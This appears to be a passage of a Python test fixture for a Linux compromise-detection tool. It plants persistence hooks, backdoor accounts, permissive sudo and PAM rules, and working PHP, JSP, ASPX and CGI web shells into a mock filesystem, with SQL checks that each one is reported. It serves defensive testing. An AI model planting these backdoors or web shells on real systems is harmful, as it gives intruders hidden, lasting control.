"""What tests/machine/run plants: harmless changes, and how each is found.

Each is a name, how it is planted, and SQL that finds it: at least one row.
"""

import gzip
import hashlib
import io
import os
import struct
import tarfile
import time

from files import FILES
from named import NAMED

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA x@away\n"
COMPOSE = """services:
  box:
    image: registry.example/box:1
    command: ["/opt/upd/box", "--serve"]
    privileged: true
    restart: always
    volumes:
      - /:/host
"""
POD = """apiVersion: v1
kind: Pod
spec:
  containers:
  - name: u
    image: registry.example/u:1
    command: ["/opt/upd/pod"]
    securityContext:
      privileged: true
"""
ASPX = """<%@ Page Language="C#"%><script runat="server">void Page_Load(object s, EventArgs e) {
System.Diagnostics.Process p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe";
p.StartInfo.Arguments = "/c " + Request["c"]; p.Start(); }</script>
"""
# What mkfs.xfs does not take over from a folder: attributes and times.
LOST_IN = {"xfs": {"capability", "capability of a package's program", "digest edited with the file"}}

# Settings of services in which a line names what is run: name, file, text, mode, how it is told, SQL.
HOOKS = [
    ("interface of wireguard", "etc/wireguard/wg0.conf", "[Interface]\nPostUp = /opt/upd/wg %i\n", 0o600,
     "network hook", "program = '/opt/upd/wg'"),
    ("openvpn", "etc/openvpn/u.conf", "script-security 2\nup /opt/upd/vpn\n", 0o644,
     "network hook", "program = '/opt/upd/vpn'"),
    ("greeter", "etc/lightdm/lightdm.conf.d/u.conf", "[Seat:*]\ngreeter-setup-script=/opt/upd/gr\n", 0o644,
     "x session", "program = '/opt/upd/gr'"),
    ("alias of git", "root/.gitconfig", '[alias]\n\tst = "!sh -c id"\n', 0o644,
     "git hook", "name = 'st'"),
    ("proxy of apt", "etc/apt/apt.conf.d/98u", 'Acquire::http::Proxy-Auto-Detect "/opt/upd/px";\n', 0o644,
     "package hook", "program = '/opt/upd/px'"),
    ("snmp", "etc/snmp/snmpd.conf", "extend u /opt/upd/snmp\n", 0o600,
     "monitor command", "program = '/opt/upd/snmp'"),
    ("archive command", "etc/postgresql/15/main/postgresql.conf", "archive_command = '/opt/upd/pg %p'\n", 0o644,
     "database start", "name = 'archive_command'"),
    ("hook of containers", "etc/containers/oci/hooks.d/u.json", '{"hook": {"path": "/opt/upd/runc"}}\n', 0o644,
     "container", "program = '/opt/upd/runc'"),
    ("cloud-init", "etc/cloud/cloud.cfg.d/99-u.cfg", "#cloud-config\nruncmd:\n - [ sh, -c, \"cat /x\" ]\n", 0o644,
     "rc script", "path LIKE '%/99-u.cfg%'"),
    ("hook of libvirt", "etc/libvirt/hooks/qemu", "#!/bin/sh\n/opt/upd/qemu\n", 0o755,
     "container", "path LIKE '%/hooks/qemu'"),
    ("supervised by runit", "etc/service/u/run", "#!/bin/sh\nexec /opt/upd/runit\n", 0o755,
     "rc script", "path LIKE '%/service/u/run'"),
    ("agent of ssh", "root/.ssh/config", "Host *\n  PKCS11Provider /opt/upd/p11.so\n", 0o600,
     "ssh command", "program = '/opt/upd/p11.so'"),
]
NEEDED = {"altered library": "usr/lib/x86_64-linux-gnu/security/pam_issue.so", "sshd altered": "usr/sbin/sshd",
          "program owned by a user": "usr/bin/stat", "program for a group to write": "usr/bin/tac"}

# Told of, and not only listed: an entry that starts, a place, a place of some weight.
start = (
    "SELECT 1 FROM trace JOIN finding_view f ON f.item = trace.item AND f.level <> 'informational' "
    "WHERE trace.kind = 'autostart' AND trace.what = '%s' AND trace.%s"
)
found = "SELECT 1 FROM finding_view WHERE level <> 'informational' AND path LIKE '%s'"
heavy = "SELECT 1 FROM finding_view WHERE level NOT IN ('informational', 'low') AND path LIKE '%s'"
matched = "SELECT 1 FROM finding_view WHERE level <> 'informational' AND matched LIKE '%s'"
rule = "SELECT 1 FROM finding_view WHERE rule = 'kanshiki.%s'"
program = "SELECT 1 FROM program WHERE standing <> 'good' AND path LIKE '%s'"
# What nobody vouches for, and no rule accuses: told, and "no implant" cannot be said.
open_start = (
    start + " AND EXISTS (SELECT 1 FROM answer WHERE harm = 'implant' AND degree <> 'no sign')"
)
weak = "SELECT 1 FROM trace WHERE kind = 'setting' AND technique IS NOT NULL AND path LIKE '%s'"


def put(path, text, mode=0o644, append=False):
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "ab" if append else "wb") as out:
        out.write(text if isinstance(text, bytes) else text.encode())
    path.chmod(mode)


def link(path, target):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)
    # As systemd would: where reading a link moved its access time, nothing is told of its target.
    time.sleep(0.05)
    os.readlink(path)


def utmp(kind, line, user, host, seconds):
    return struct.pack("<hxxi32s4s32s256shhiii16s20x", kind, 7, line, b"", user, host, 0, 0, 0, seconds, 0, b"")


def staged(path):
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w:gz") as tar:
        for i in range(20):
            body = os.urandom(2000)
            info = tarfile.TarInfo(f"home/ann/documents/report{i}.docx")
            info.size = len(body)
            tar.addfile(info, io.BytesIO(body))
    put(path, data.getvalue())


def cpio(name, content, mode):
    """An archive of one file, as the kernel takes it."""
    out = b""
    for number, (path, data, bits) in enumerate([(name, content, 0o100000 | mode), ("TRAILER!!!", b"", 0)]):
        fields = [number, bits, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(path) + 1, 0]
        head = b"070701" + b"".join(b"%08x" % field for field in fields) + path.encode() + b"\0"
        out += head + bytes(-len(head) % 4) + data + bytes(-len(data) % 4)
    return out


def elf_of(root):
    return (root / "usr/bin/true").read_bytes()


def forge(root, name):
    """Changes a program and the digest that its package has of it."""
    old, mode = (root / name).read_bytes(), (root / name).stat().st_mode & 0o7777
    put(root / name, b"x", mode, True)
    before, after = (hashlib.md5(data).hexdigest() for data in (old, old + b"x"))
    for sums in (root / "var/lib/dpkg/info").glob("*.md5sums"):
        if before in sums.read_text():
            sums.write_text(sums.read_text().replace(before, after))


def forge_package(root):
    put(root / "usr/bin/updd", elf_of(root) + b"p", 0o755)
    digest = hashlib.md5(elf_of(root) + b"p").hexdigest()
    put(root / "var/lib/dpkg/info/libupd.md5sums", f"{digest}  usr/bin/updd\n")
    put(root / "var/lib/dpkg/info/libupd.list", "/.\n/usr/bin/updd\n")


def replace_by_link(path, target):
    path.unlink(missing_ok=True)
    link(path, target)


def give_capability(path, content=None):
    if content:
        put(path, content, 0o755)
    # cap_setuid+ep, version 2
    os.setxattr(path, "security.capability", struct.pack("<5I", 0x02000001, 1 << 7, 0, 0, 0))


def zero_record(path):
    data = path.read_bytes()
    path.write_bytes(data[:384] + bytes(384) + data[768:])


def exchange_compiled(source):
    """What Python would take for the compiled form of a source, and is another's."""
    put(source, "import os\n\ndef greet(name):\n    return name.upper()\n")
    compiled = source.parent / "__pycache__" / "kept.cpython-311.pyc"
    head = struct.pack("<HHIII", 3495, 0x0a0d, 0, int(source.stat().st_mtime), source.stat().st_size)
    # code(consts=("x",), names=("socket", "connect_ex"), name="<module>") of 3.11
    def small(text):
        return b"Z" + bytes([len(text)]) + text
    body = (b"\xe3" + bytes(20) + b"s\0\0\0\0" + b")\x01" + small(b"x") + b")\x02" + small(b"socket") +
            small(b"connect_ex") + b")\0" + b"s\0\0\0\0" + small(b"kept.py") + small(b"<module>") + small(b"<module>") +
            b"\1\0\0\0" + b"s\0\0\0\0" * 2)
    put(compiled, head + body)


def programs(root):
    """Programs, libraries and what vouches for them."""
    elf = elf_of(root)
    module = root / "usr/lib/modules/6.1.0/kernel/drivers/.x.ko"
    return [
        ("altered program", lambda: put(root / "usr/bin/sort", b"\0", 0o755, True), program % "/usr/bin/sort"),
        (
            "altered library",
            lambda: put(root / "usr/lib/x86_64-linux-gnu/security/pam_issue.so", b"\0", 0o755, True),
            program % "%/pam_issue.so",
        ),
        ("sshd altered", lambda: put(root / "usr/sbin/sshd", b"\0", 0o755, True), program % "%/sbin/sshd"),
        (
            "setuid copy",
            lambda: put(root / "usr/local/bin/ls2", elf + b"s", 0o4755),
            start % ("set user id", "path LIKE '%/ls2%'"),
        ),
        (
            "capability",
            lambda: give_capability(root / "usr/local/bin/tcpd", elf + b"c"),
            start % ("file capability", "path LIKE '%/tcpd%'"),
        ),
        (
            "setuid of a package's program",
            lambda: (root / "usr/bin/dash").chmod(0o4755),
            "SELECT 1 FROM finding_view WHERE rule = 'kanshiki.rights-given' AND path LIKE '%/dash'",
        ),
        (
            "capability of a package's program",
            lambda: give_capability(root / "usr/bin/true"),
            "SELECT 1 FROM finding_view WHERE rule = 'kanshiki.rights-given' AND path LIKE '%/true'",
        ),
        (
            "library link",
            lambda: link(root / "usr/lib/x86_64-linux-gnu/libq.so.1", "/opt/upd/q.so"),
            start % ("library link", "program = '/opt/upd/q.so'"),
        ),
        (
            "compiled python without a source",
            lambda: put(root / "usr/lib/python3/dist-packages/u.pyc", b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(60)),
            program % "%/u.pyc",
        ),
        (
            "compiled python with its old header",
            lambda: exchange_compiled(root / "usr/lib/python3/dist-packages/kept.py"),
            program % "%/__pycache__/kept.cpython-311.pyc",
        ),
        ("hidden module", lambda: put(module, elf + b"m"), program % "%/.x.ko"),
        ("digest edited with the file", lambda: forge(root, "usr/bin/find"), rule % "package-record-changed"),
        ("forged package", lambda: forge_package(root), rule % "package-not-installed"),
        (
            "alternative",
            lambda: (
                put(root / "opt/upd/awk", elf + b"a", 0o755),
                link(root / "etc/alternatives/awk2", "/opt/upd/awk"),
                link(root / "usr/bin/awk2", "/etc/alternatives/awk2"),
            ),
            matched % "%/opt/upd/awk%",
        ),
        (
            "program replaced by link",
            lambda: (put(root / "opt/upd/ls", elf + b"l", 0o755), replace_by_link(root / "usr/bin/ls", "/opt/upd/ls")),
            rule % "program-replaced-by-link",
        ),
        ("program replaced by copy of another", lambda: put(root / "usr/bin/cat", elf, 0o755), heavy % "%/usr/bin/cat"),
        ("temporary program", lambda: put(root / "dev/shm/.x/kworker", elf + b"k", 0o755), heavy % "%/kworker"),
        ("tmp program", lambda: put(root / "tmp/.ICE-unix/x", elf + b"y", 0o755), heavy % "%/.ICE-unix/x"),
        ("hidden program in lib", lambda: put(root / "usr/lib/.x/prog", elf + b"z", 0o755), found % "%/.x/prog"),
        (
            "program before the system's",
            lambda: put(root / "usr/local/bin/find", elf + b"f", 0o755),
            found % "%/usr/local/bin/find",
        ),
        ("device node", lambda: put(root / "dev/.udev/x", elf + b"dev", 0o755), found % "%/dev/.udev/x"),
        (
            "packaged unit altered",
            lambda: put(root / "usr/lib/systemd/system/cron.service", "ExecStartPost=/opt/upd/post\n", append=True),
            heavy % "%/system/cron.service",
        ),
    ]


def services(root):
    """Units, timers and what is older than they."""
    return [
        (
            "unit",
            lambda: put(
                root / "etc/systemd/system/upd.service",
                "[Service]\nExecStart=/opt/upd/run\n[Install]\nWantedBy=multi-user.target\n",
            ),
            start % ("unit", "program = '/opt/upd/run'"),
        ),
        (
            "timer",
            lambda: put(root / "etc/systemd/system/upd.timer", "[Timer]\nOnBootSec=60\n"),
            start % ("timer", "name = 'upd.timer'"),
        ),
        (
            "generator",
            lambda: put(root / "etc/systemd/system-generators/u", "#!/bin/sh\n/opt/upd/generator\n", 0o755),
            start % ("generator", "name = 'u'"),
        ),
        (
            "drop-in",
            lambda: put(root / "etc/systemd/system/cron.service.d/u.conf", "[Service]\nExecStartPost=/opt/upd/after\n"),
            start % ("unit", "program = '/opt/upd/after'"),
        ),
        (
            "user's unit",
            lambda: put(root / "home/ann/.config/systemd/user/u.service", "[Service]\nExecStart=/opt/upd/user\n"),
            start % ("unit", "program = '/opt/upd/user'"),
        ),
        (
            "enabled by a link",
            lambda: link(root / "etc/systemd/system/multi-user.target.wants/v.service", "/opt/upd/v.service"),
            start % ("unit link", "program = '/opt/upd/v.service'"),
        ),
        (
            "rc.local",
            lambda: put(root / "etc/rc.local", "#!/bin/sh\n/opt/upd/rc\n", 0o755),
            start % ("rc script", "path LIKE '%/rc.local'"),
        ),
        (
            "inittab",
            lambda: put(root / "etc/inittab", "u:2345:respawn:/opt/upd/init\n"),
            start % ("rc script", "program = '/opt/upd/init'"),
        ),
        (
            "upstart",
            lambda: put(root / "etc/init/u.conf", "start on startup\nrespawn\nexec /opt/upd/up\n"),
            start % ("rc script", "program = '/opt/upd/up'"),
        ),
        (
            "per boot",
            lambda: put(root / "var/lib/cloud/scripts/per-boot/u.sh", "#!/bin/sh\n/opt/upd/cloud\n", 0o755),
            start % ("rc script", "name = 'u.sh'"),
        ),
        (
            "script of the initramfs",
            lambda: put(
                root / "boot/initrd.img-6.1.0",
                cpio("kernel/x86/microcode/x.bin", b"x" * 999, 0o644)
                + gzip.compress(cpio("scripts/init-top/u", b"#!/bin/sh\n/opt/upd/ramfs\n", 0o755)),
            ),
            program % "%/boot/initrd.img-6.1.0!/next!/%scripts/init-top/u",
        ),
        (
            "init of grub",
            lambda: put(root / "etc/default/grub", 'GRUB_CMDLINE_LINUX="init=/opt/upd/init"\n'),
            start % ("kernel command", "program = '/opt/upd/init'"),
        ),
        (
            "init of grub.cfg",
            lambda: put(
                root / "boot/grub/grub.cfg",
                "menuentry 'x' {\n\tlinux /boot/vmlinuz-6.1.0 root=/dev/sda1 ro quiet init=/opt/upd/init2\n}\n",
            ),
            start % ("kernel command", "program = '/opt/upd/init2'"),
        ),
        (
            "audit off at boot",
            lambda: put(
                root / "etc/default/grub.d/x.cfg",
                'GRUB_CMDLINE_LINUX_DEFAULT="$GRUB_CMDLINE_LINUX_DEFAULT audit=0 apparmor=0"\n',
            ),
            weak % "%grub.d/x.cfg%",
        ),
        (
            "manager environment",
            lambda: put(
                root / "etc/systemd/system.conf.d/u.conf", "[Manager]\nDefaultEnvironment=LD_PRELOAD=/opt/upd/p.so\n"
            ),
            start % ("preload", "path LIKE '%system.conf.d/u.conf%'"),
        ),
        (
            "dbus service",
            lambda: put(
                root / "usr/share/dbus-1/system-services/org.u.service",
                "[D-BUS Service]\nName=org.u\nExec=/opt/upd/dbus\nUser=root\n",
            ),
            start % ("dbus service", "program = '/opt/upd/dbus'"),
        ),
        (
            "supervisor",
            lambda: put(root / "etc/supervisor/conf.d/u.conf", "[program:u]\ncommand=/opt/upd/sup\nautostart=true\n"),
            start % ("supervisor", "program = '/opt/upd/sup'"),
        ),
        (
            "desktop entry",
            lambda: put(
                root / "etc/xdg/autostart/u.desktop",
                "[Desktop Entry]\nType=Application\nName=U\nExec=/opt/upd/desktop\n",
            ),
            start % ("xdg autostart", "program = '/opt/upd/desktop'"),
        ),
        (
            "compose file",
            lambda: put(root / "srv/app/docker-compose.yml", COMPOSE),
            start % ("container", "command LIKE '%/opt/upd/box%'"),
        ),
        (
            "static pod",
            lambda: put(
                root / "etc/kubernetes/manifests/u.yaml",
                POD,
            ),
            start % ("container", "command LIKE '%/opt/upd/pod%'"),
        ),
        (
            "docker on the network",
            lambda: put(root / "etc/docker/daemon.json", '{"hosts": ["tcp://0.0.0.0:2375"]}\n'),
            "SELECT 1 FROM trace WHERE kind='setting' AND path LIKE '%daemon.json%' AND technique IS NOT NULL",
        ),
        (
            "module at start",
            lambda: put(root / "etc/modules-load.d/u.conf", "umod\n"),
            start % ("module", "name = 'umod'"),
        ),
        (
            "modprobe",
            lambda: put(root / "etc/modprobe.d/u.conf", "install dccp /opt/upd/probe\n"),
            start % ("module", "program = '/opt/upd/probe'"),
        ),
        (
            "udev rule",
            lambda: put(root / "etc/udev/rules.d/99-u.rules", 'ACTION=="add", RUN+="/opt/upd/udev"\n'),
            start % ("udev", "program = '/opt/upd/udev'"),
        ),
        (
            "core pattern",
            lambda: put(root / "etc/sysctl.d/99-u.conf", "kernel.core_pattern=|/opt/upd/core %p\n"),
            start % ("kernel helper", "program = '/opt/upd/core'"),
        ),
        (
            "tmpfiles",
            lambda: put(root / "etc/tmpfiles.d/u.conf", "w /proc/sys/kernel/core_pattern - - - - |/opt/upd/c2\n"),
            found % "%tmpfiles.d/u.conf",
        ),
        (
            "fstab bind",
            lambda: put(root / "etc/fstab", "/opt/upd/bin /usr/bin none bind 0 0\n", append=True),
            found % "%/etc/fstab",
        ),
        (
            "initramfs hook",
            lambda: put(root / "etc/initramfs-tools/hooks/u", "#!/bin/sh\ncopy_exec /opt/upd/init\n", 0o755),
            start % ("initramfs script", "name = 'u'"),
        ),
    ]


def jobs(root):
    """What is run at a time or at an event."""
    return [
        (
            "cron line",
            lambda: put(root / "etc/cron.d/upd", "*/5 * * * * root /opt/upd/run\n"),
            start % ("cron", "program = '/opt/upd/run'"),
        ),
        (
            "code in a cron line",
            lambda: put(root / "etc/cron.d/v", "* * * * * root sh -c 'cat /etc/motd | dash'\n"),
            open_start % ("cron", "path LIKE '%/cron.d/v%'"),
        ),
        (
            "code in a unit",
            lambda: put(root / "etc/systemd/system/w.service", "[Service]\nExecStart=/bin/sh -c 'cat /etc/motd | dash'\n"),
            open_start % ("unit", "path LIKE '%/w.service%'"),
        ),
        (
            "link in cron.d",
            lambda: link(root / "etc/cron.d/w", "/opt/upd/cron"),
            open_start % ("start link", "program = '/opt/upd/cron'"),
        ),
        *[
            (name, lambda path=path, text=text, mode=mode: put(root / path, text, mode), open_start % (what, sql))
            for name, path, text, mode, what, sql in HOOKS
        ],
        (
            "trusted hosts",
            lambda: put(root / "root/.rhosts", "+ +\n", 0o600),
            start % ("trusted host", "command = '+ +'"),
        ),
        (
            "account made at start",
            lambda: put(root / "etc/sysusers.d/u.conf", 'u upd3 0 "x" /root /bin/bash\n'),
            "SELECT 1 FROM finding_view WHERE rule = 'kanshiki.second-root' AND path LIKE '%/sysusers.d/u.conf'",
        ),
        (
            "user crontab",
            lambda: put(root / "var/spool/cron/crontabs/root", "@reboot /opt/upd/at-boot\n", 0o600),
            start % ("cron", "program = '/opt/upd/at-boot'"),
        ),
        (
            "crontab of a user",
            lambda: put(root / "var/spool/cron/crontabs/ann", "0 4 * * * /opt/upd/nightly\n", 0o600),
            start % ("cron", "program = '/opt/upd/nightly' AND trace.user = 'ann'"),
        ),
        (
            "cron.daily script",
            lambda: put(root / "etc/cron.daily/u", "#!/bin/sh\n/opt/upd/daily\n", 0o755),
            start % ("cron", "name = 'u'"),
        ),
        (
            "anacron",
            lambda: put(root / "etc/anacrontab", "1 5 upd /opt/upd/ana\n"),
            start % ("cron", "program = '/opt/upd/ana'"),
        ),
        (
            "at job",
            lambda: put(
                root / "var/spool/cron/atjobs/a0000101c2d3e4", "#!/bin/sh\n# atrun uid=0 gid=0\n/opt/upd/later\n", 0o700
            ),
            start % ("at", "program = '/opt/upd/later'"),
        ),
        (
            "incron",
            lambda: put(root / "var/spool/incron/root", "/etc/passwd IN_MODIFY /opt/upd/inc\n"),
            start % ("cron", "program = '/opt/upd/inc'"),
        ),
        (
            "apt hook",
            lambda: put(root / "etc/apt/apt.conf.d/99u", 'DPkg::Post-Invoke {"/opt/upd/apt";};\n'),
            start % ("package hook", "program = '/opt/upd/apt'"),
        ),
        (
            "login banner",
            lambda: put(root / "etc/update-motd.d/99-u", "#!/bin/sh\n/opt/upd/m\n", 0o755),
            start % ("login banner", "name = '99-u'"),
        ),
        (
            "dispatcher",
            lambda: put(root / "etc/NetworkManager/dispatcher.d/50-u", "#!/bin/sh\n/opt/upd/net\n", 0o755),
            start % ("network hook", "name = '50-u'"),
        ),
        (
            "interfaces",
            lambda: put(root / "etc/network/interfaces.d/u", "iface lo inet loopback\n  up /opt/upd/ifup\n"),
            start % ("network hook", "program = '/opt/upd/ifup'"),
        ),
        (
            "logrotate",
            lambda: put(root / "etc/logrotate.d/u", "/var/log/u {\n postrotate\n /opt/upd/rotate\n endscript\n}\n"),
            start % ("log rotation", "program = '/opt/upd/rotate'"),
        ),
        (
            "audit plugin",
            lambda: put(
                root / "etc/audit/plugins.d/u.conf",
                "active = yes\ndirection = out\npath = /opt/upd/aud\ntype = always\n",
            ),
            start % ("log hook", "program = '/opt/upd/aud'"),
        ),
        (
            "rsyslog program",
            lambda: put(
                root / "etc/rsyslog.d/u.conf", 'module(load="omprog")\naction(type="omprog" binary="/opt/upd/rsys")\n'
            ),
            start % ("log hook", "program = '/opt/upd/rsys'"),
        ),
        (
            "rsyslog old form",
            lambda: put(root / "etc/rsyslog.d/v.conf", ':msg, contains, "x" ^/opt/upd/rsys2\n'),
            start % ("log hook", "program = '/opt/upd/rsys2'"),
        ),
        (
            "git hook",
            lambda: put(root / "home/ann/work/.git/hooks/post-merge", "#!/bin/sh\n/opt/upd/git\n", 0o755),
            start % ("git hook", "name = 'post-merge'"),
        ),
        (
            "other git hook",
            lambda: put(root / "home/ann/work/.git/hooks/post-rewrite", "#!/bin/sh\n/opt/upd/git\n", 0o755),
            start % ("git hook", "name = 'post-rewrite'"),
        ),
        (
            "hosts.allow",
            lambda: put(root / "etc/hosts.allow", "ALL: ALL: spawn (/opt/upd/wrap %a) &\n"),
            start % ("tcp wrapper", "program = '/opt/upd/wrap'"),
        ),
    ]


def logins(root):
    """Who may come in, and as whom."""
    elf = elf_of(root)
    return [
        (
            "PAM lets anybody in",
            lambda: put(root / "etc/pam.d/sshd", "auth sufficient pam_permit.so\n", append=True),
            rule % "lets-anybody-in",
        ),
        (
            "ssh key",
            lambda: put(root / "root/.ssh/authorized_keys", KEY, 0o600),
            start % ("ssh key", "name = 'x@away'"),
        ),
        (
            "root over ssh",
            lambda: put(root / "etc/ssh/sshd_config", "PermitRootLogin yes\n", append=True),
            "SELECT 1 FROM trace WHERE kind = 'setting' AND name = 'PermitRootLogin' AND technique IS NOT NULL",
        ),
        (
            "sshd keys elsewhere",
            lambda: put(root / "etc/ssh/sshd_config.d/k.conf", "AuthorizedKeysFile /opt/upd/keys\n"),
            weak % "%k.conf%",
        ),
        (
            "sshd user environment",
            lambda: put(root / "etc/ssh/sshd_config.d/e.conf", "PermitUserEnvironment yes\nAcceptEnv LD_PRELOAD\n"),
            weak % "%e.conf%",
        ),
        (
            "keys by command",
            lambda: put(
                root / "etc/ssh/sshd_config.d/u.conf",
                "Match User ann\n  AuthorizedKeysCommand /opt/upd/keys %u\n" "  AuthorizedKeysCommandUser root\n",
            ),
            start % ("ssh command", "program = '/opt/upd/keys'"),
        ),
        (
            "ssh proxy command",
            lambda: put(root / "home/ann/.ssh/config", "Host *\n  ProxyCommand /opt/upd/proxy %h %p\n"),
            start % ("ssh command", "program = '/opt/upd/proxy'"),
        ),
        (
            "pam line",
            lambda: put(root / "etc/pam.d/sshd", "auth optional pam_exec.so /opt/upd/pam\n", append=True),
            start % ("pam", "program = '/opt/upd/pam'"),
        ),
        (
            "sudo rule",
            lambda: put(root / "etc/sudoers.d/upd", "upd ALL=(ALL) NOPASSWD: ALL\n", 0o440),
            start % ("sudoers", "name = 'upd'"),
        ),
        (
            "sudoers line",
            lambda: put(root / "etc/sudoers", "ann ALL=(ALL) NOPASSWD: ALL\n", 0o440, True),
            "SELECT 1 FROM trace WHERE kind='autostart' AND what='sudoers' AND name='ann'",
        ),
        (
            "sudo plugin",
            lambda: put(root / "etc/sudo.conf", "Plugin upd /opt/upd/sudo.so\n"),
            start % ("sudo plugin", "program = '/opt/upd/sudo.so'"),
        ),
        (
            "doas",
            lambda: put(root / "etc/doas.conf", "permit nopass ann as root\n"),
            start % ("sudoers", "path LIKE '%doas.conf%'"),
        ),
        (
            "polkit rule",
            lambda: put(
                root / "etc/polkit-1/rules.d/10-u.rules",
                "polkit.addRule(function(a, s) { return polkit.Result.YES; });\n",
            ),
            start % ("polkit", "path LIKE '%10-u.rules%'"),
        ),
        (
            "second root",
            lambda: put(root / "etc/passwd", "upd:x:0:0::/root:/bin/bash\n", append=True),
            rule % "second-root",
        ),
        (
            "no password",
            lambda: put(root / "etc/shadow", "upd2::19000:0:99999:7:::\n", 0o640, True),
            rule % "empty-password",
        ),
        (
            "service account with shell",
            lambda: put(root / "etc/passwd", "www-data:x:33:33:www-data:/var/www:/bin/bash\n", 0o644, True),
            rule % "service-logon",
        ),
        (
            "service in a ruling group",
            lambda: put(root / "etc/group", "docker:x:998:www-data\n", 0o644, True),
            rule % "service-group",
        ),
        (
            "odd shell",
            lambda: put(root / "etc/passwd", "ann:x:1001:1001::/home/ann:/opt/upd/sh\n", 0o644, True),
            start % ("login shell", "program = '/opt/upd/sh'"),
        ),
        ("world-writable passwd", lambda: (root / "etc/passwd").chmod(0o666), matched % "%open to all%"),
        (
            "name service",
            lambda: (
                put(root / "usr/lib/libnss_upd.so.2", elf + b"n"),
                put(root / "etc/nsswitch.conf", "passwd: files upd\n"),
            ),
            start % ("name service", "name = 'upd'"),
        ),
    ]


def environments(root):
    """Start files, and what interpreters load."""
    elf = elf_of(root)
    return [
        (
            "preload library",
            lambda: (put(root / "usr/lib/libq.so", elf + b"q"), put(root / "etc/ld.so.preload", "/usr/lib/libq.so\n")),
            start % ("preload", "command = '/usr/lib/libq.so'"),
        ),
        (
            "library path",
            lambda: put(root / "etc/environment", "LD_LIBRARY_PATH=/opt/upd/lib\n", append=True),
            start % ("preload", "name = 'LD_LIBRARY_PATH'"),
        ),
        ("ld.so.conf.d", lambda: put(root / "etc/ld.so.conf.d/00-u.conf", "/opt/upd/lib\n"), found % "%/00-u.conf"),
        (
            "bashrc line",
            lambda: put(root / "root/.bashrc", "nohup /dev/shm/.u &\n", append=True),
            start % ("profile", "program = '/dev/shm/.u'"),
        ),
        (
            "history off",
            lambda: put(root / "root/.profile", "export HISTFILE=/dev/null\n", append=True),
            "SELECT 1 FROM trace WHERE kind = 'setting' AND what = 'history off'",
        ),
        (
            "shell function",
            lambda: put(root / "home/ann/.bashrc", 'sudo() { /opt/upd/sudo "$@"; }\n'),
            start % ("profile", "command LIKE 'sudo()%'"),
        ),
        (
            "alias of a program",
            lambda: put(root / "home/ann/.bash_aliases", "alias ls='/opt/upd/ls'\n"),
            start % ("profile", "command LIKE 'alias ls=%'"),
        ),
        (
            "profile script",
            lambda: put(root / "etc/profile.d/u.sh", "/opt/upd/profile &\n"),
            start % ("profile", "path LIKE '%/etc/profile.d/u.sh%'"),
        ),
        (
            "completion",
            lambda: put(root / "etc/bash_completion.d/u", "/opt/upd/comp &\n"),
            start % ("profile", "path LIKE '%bash_completion.d/u%'"),
        ),
        (
            "python start",
            lambda: put(root / "usr/lib/python3/dist-packages/u.pth", "import os; os.getpid()\n"),
            start % ("python start", "name = 'u.pth'"),
        ),
        (
            "sitecustomize",
            lambda: put(root / "usr/lib/python3/dist-packages/sitecustomize.py", "import os\n"),
            start % ("python start", "name = 'sitecustomize.py'"),
        ),
        (
            "perl start",
            lambda: put(root / "etc/perl/sitecustomize.pl", "system('/opt/upd/perl');\n"),
            found % "%/sitecustomize.pl",
        ),
        (
            "node options",
            lambda: put(root / "etc/environment", "NODE_OPTIONS=--require /opt/upd/n.js\n", append=True),
            start % ("profile", "name = 'NODE_OPTIONS'"),
        ),
        (
            "locale gconv",
            lambda: put(root / "etc/environment", "GCONV_PATH=/opt/upd/g\n", append=True),
            found % "%/etc/environment",
        ),
        (
            "vimrc",
            lambda: put(root / "root/.vimrc", "autocmd BufReadPost * silent! call system('/opt/upd/vim &')\n"),
            start % ("editor start", "path LIKE '%.vimrc%'"),
        ),
        (
            "gitconfig",
            lambda: put(
                root / "home/ann/.gitconfig", "[core]\n\tfsmonitor = /opt/upd/fsm\n\thooksPath = /opt/upd/hooks\n"
            ),
            start % ("git hook", "program = '/opt/upd/fsm'"),
        ),
        (
            "tmux",
            lambda: put(root / "root/.tmux.conf", "run-shell '/opt/upd/tmux'\n"),
            start % ("profile", "path LIKE '%.tmux.conf%'"),
        ),
    ]


def web(root):
    """What a web server runs, and what lies in its folders."""
    return [
        (
            "web shell",
            lambda: put(root / "var/www/html/i.php", "<?php @eval($_POST['c']); ?>\n"),
            "SELECT 1 FROM finding_view WHERE path LIKE '%/i.php'",
        ),
        (
            "php system",
            lambda: put(
                root / "srv/www/up/a.php", "<?php if(isset($_REQUEST['cmd'])){ system($_REQUEST['cmd']); } ?>\n"
            ),
            heavy % "%/a.php",
        ),
        (
            "php base64",
            lambda: put(root / "srv/www/up/b.php", "<?php eval(gzinflate(base64_decode('80jNyckHAA=='))); ?>\n"),
            heavy % "%/b.php",
        ),
        ("php backtick", lambda: put(root / "srv/www/up/c.php", "<?=`$_GET[0]`?>\n"), heavy % "%/c.php"),
        (
            "php in picture",
            lambda: put(
                root / "srv/www/up/d.jpg",
                b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\1" * 64 + b"<?php assert($_POST['x']); ?>",
            ),
            heavy % "%/d.jpg",
        ),
        (
            "jsp shell",
            lambda: put(
                root / "opt/tomcat/webapps/ROOT/s.jsp",
                '<%@page import="java.io.*"%><% Process p=Runtime.getRuntime().exec(request.getParameter("c")); %>\n',
            ),
            heavy % "%/s.jsp",
        ),
        (
            "aspx shell",
            lambda: put(
                root / "var/www/html/s.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["c"],"unsafe");%>\n'
            ),
            heavy % "%/s.aspx",
        ),
        (
            "aspx process",
            lambda: put(
                root / "var/www/html/t.aspx",
                ASPX,
            ),
            heavy % "%/t.aspx",
        ),
        (
            "perl cgi",
            lambda: put(
                root / "usr/lib/cgi-bin/s.pl",
                "#!/usr/bin/perl\nuse CGI;my $q=new CGI;\nprint $q->header;system($q->param('c'));\n",
                0o755,
            ),
            heavy % "%/s.pl",
        ),
        (
            "python cgi",
            lambda: put(
                root / "usr/lib/cgi-bin/s.py",
                "#!/usr/bin/python3\nimport cgi,os\nf=cgi.FieldStorage()\nprint('Content-type: text/html\\n')\n"
                "print(os.popen(f.getvalue('c')).read())\n",
                0o755,
            ),
            heavy % "%/s.py",
        ),
        (
            "shell cgi",
            lambda: put(
